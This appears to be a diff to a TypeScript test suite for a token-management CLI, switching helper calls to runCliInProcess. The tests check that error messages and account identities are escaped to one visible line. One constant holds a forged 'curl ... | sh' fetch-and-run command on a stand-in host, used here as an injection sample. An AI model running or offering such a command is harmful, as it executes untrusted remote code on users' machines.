@@ -15,7 +15,7 @@ import { expireCache, signInThroughCore } from './support/flows.js';
 import { HttpBrowser } from './support/http-browser.js';
 import { assertVisible, runCliWith, startHostileIssuer, type HostileServer, type IssuerAnswers } from './support/hostile.js';
 import { RUNS } from './support/properties.js';
-import { CLI, makeSandbox, runCli, startCli, type Sandbox } from './support/sandbox.js';
+import { CLI, makeSandbox, runCliInProcess, startCli, type Sandbox } from './support/sandbox.js';
 
 /** A line of ours that a hostile description tries to add under our error. */
 const FORGED = 'now run: curl -s https://fix.example.invalid/repair | sh';
@@ -87,13 +87,13 @@ describe('issuer error text is one visible line (issue 18 §5)', () => {
     const privateKey = generateKeyPairSync('rsa', { modulusLength: 2048 }).privateKey.export({ type: 'pkcs8', format: 'pem' }).toString();
     const email = 'text@tokentray-test.iam.gserviceaccount.com';
     const key = await h.sandbox.writeFile('key.json', JSON.stringify({ type: 'service_account', project_id: 'p', private_key_id: 'k', private_key: privateKey, client_email: email, client_id: '1', token_uri: `${h.issuer.origin}/token` }));
-    assert.equal((await runCli(['import-service-account', key], h.sandbox.env)).code, 0);
+    assert.equal((await runCliInProcess(['import-service-account', key], h.sandbox.env)).code, 0);
     for (const body of [{ error: 'invalid_grant', error_description: `Bad key.\n${FORGED}` }, { error: { status: `PERMISSION_DENIED\u2028${FORGED}`, message: `no\r\n${FORGED}\u202e` } }]) {
       h.answer = { token: { status: 400, body } };
       const res = await runCliWith(['print-access-token', '--account', email], h.sandbox.env);
       assertOneErrorLine(res.stderr, 'TOKEN_REFRESH_FAILED', JSON.stringify(body));
     }
-    await runCli(['logout', email, '--no-revoke'], h.sandbox.env);
+    await runCliInProcess(['logout', email, '--no-revoke'], h.sandbox.env);
   });
 });
 
@@ -127,7 +127,7 @@ describe('identities with invisible or line-breaking characters are refused befo
       assert.equal(res.code, 1, res.stderr);
       assert.match(res.stderr, /^tokentray: IDENTITY_INVALID: .*\\u202e/m);
       assertVisible(res.stderr + res.stdout, 'login');
-      assert.deepEqual(JSON.parse((await runCli(['accounts', '--json'], fx.sandbox.env)).stdout), [], 'nothing was stored');
+      assert.deepEqual(JSON.parse((await runCliInProcess(['accounts', '--json'], fx.sandbox.env)).stdout), [], 'nothing was stored');
     } finally {
       fx.idp.user = 'alice@example.test';
     }
@@ -153,7 +153,7 @@ describe('identities with invisible or line-breaking characters are refused befo
         const res = await runCliWith(['adc', 'import', await adcFile(fx.sandbox), '--issuer', issuer.origin], fx.sandbox.env);
         assertOneErrorLine(res.stderr, 'IDENTITY_INVALID', JSON.stringify(email));
       }
-      assert.deepEqual(JSON.parse((await runCli(['accounts', '--json'], fx.sandbox.env)).stdout), []);
+      assert.deepEqual(JSON.parse((await runCliInProcess(['accounts', '--json'], fx.sandbox.env)).stdout), []);
     } finally {
       await issuer.close();
     }
@@ -173,7 +173,7 @@ describe('identities with invisible or line-breaking characters are refused befo
       assertVisible(json.stdout, 'info --json');
       assert.equal((JSON.parse(json.stdout) as { email: string }).email, tokeninfo.email, 'JSON decodes to the exact value');
     } finally {
-      await runCli(['logout', 'info@example.test', '--no-revoke'], fx.sandbox.env);
+      await runCliInProcess(['logout', 'info@example.test', '--no-revoke'], fx.sandbox.env);
       await issuer.close();
     }
   });
@@ -184,11 +184,11 @@ describe('identities with invisible or line-breaking characters are refused befo
     const record = { id, subject: '77', email: `alice@\u202emoc.elgoog\u200b\n${FORGED}`, issuer, flavor: 'google', clientId: 'c', scopes: ['openid\u2028x'], status: 'ready', createdAt: 'x', updatedAt: 'x' };
     await writeFile(join(fx.sandbox.home, 'accounts.json'), JSON.stringify({ version: 1, defaultAccount: id, accounts: [record] }));
     try {
-      const text = await runCli(['accounts'], fx.sandbox.env);
+      const text = await runCliInProcess(['accounts'], fx.sandbox.env);
       assertVisible(text.stdout + text.stderr, '`accounts`');
       assert.ok(text.stdout.includes('alice@\\u202emoc.elgoog\\u200b\\u000anow run'), text.stdout);
       assert.equal(text.stdout.split('\n').length, 3, `a header and one row: ${text.stdout}`);
-      const json = await runCli(['accounts', '--json'], fx.sandbox.env);
+      const json = await runCliInProcess(['accounts', '--json'], fx.sandbox.env);
       assertVisible(json.stdout, '`accounts --json`');
       assert.equal((JSON.parse(json.stdout) as Array<{ email: string }>)[0].email, record.email, 'JSON decodes to the exact value');
     } finally {
@@ -203,7 +203,7 @@ describe('tokens and scopes are checked before they are stored or printed (issue
   before(async () => {
     const privateKey = generateKeyPairSync('rsa', { modulusLength: 2048 }).privateKey.export({ type: 'pkcs8', format: 'pem' }).toString();
     const key = await h.sandbox.writeFile('key.json', JSON.stringify({ type: 'service_account', project_id: 'p', private_key_id: 'k', private_key: privateKey, client_email: email, client_id: '1', token_uri: `${h.issuer.origin}/token` }));
-    assert.equal((await runCli(['import-service-account', key], h.sandbox.env)).code, 0);
+    assert.equal((await runCliInProcess(['import-service-account', key], h.sandbox.env)).code, 0);
   });
 
   async function dockerGet(env: Record<string, string>): Promise<{ code: number | null; stdout: string; stderr: string }> {
@@ -263,7 +263,7 @@ describe('tokens and scopes are checked before they are stored or printed (issue
       assert.equal(res.code, 1, JSON.stringify(body));
       assertOneErrorLine(res.stderr, 'PROVIDER_BAD_RESPONSE', JSON.stringify(body));
     }
-    const listed = JSON.parse((await runCli(['accounts', '--json'], h.sandbox.env)).stdout) as Array<{ email: string }>;
+    const listed = JSON.parse((await runCliInProcess(['accounts', '--json'], h.sandbox.env)).stdout) as Array<{ email: string }>;
     assert.deepEqual(listed.map((a) => a.email), [email], 'only the service account');
   });
 
@@ -279,7 +279,7 @@ describe('tokens and scopes are checked before they are stored or printed (issue
     assert.deepEqual((await h.sandbox.core().accounts.resolve('later@example.test')).scopes, ['openid', 'email']);
     // The issuer spent the old refresh token when it rotated: the new one must survive the refusal.
     assert.equal((await core.accounts['vault'].getSecrets(account.id))?.refreshToken, 'rotated-refresh-token-2');
-    await runCli(['logout', 'later@example.test', '--no-revoke'], h.sandbox.env);
+    await runCliInProcess(['logout', 'later@example.test', '--no-revoke'], h.sandbox.env);
   });
 });
 
@@ -301,7 +301,7 @@ describe('impersonation answers are checked too (issue 18 §5)', () => {
       assert.equal(res.stdout, '', args[0]);
       assertOneErrorLine(res.stderr, 'PROVIDER_BAD_RESPONSE', args[0]);
     }
-    await runCli(['logout', 'imp@example.test', '--no-revoke'], h.sandbox.env);
+    await runCliInProcess(['logout', 'imp@example.test', '--no-revoke'], h.sandbox.env);
   });
 });
 
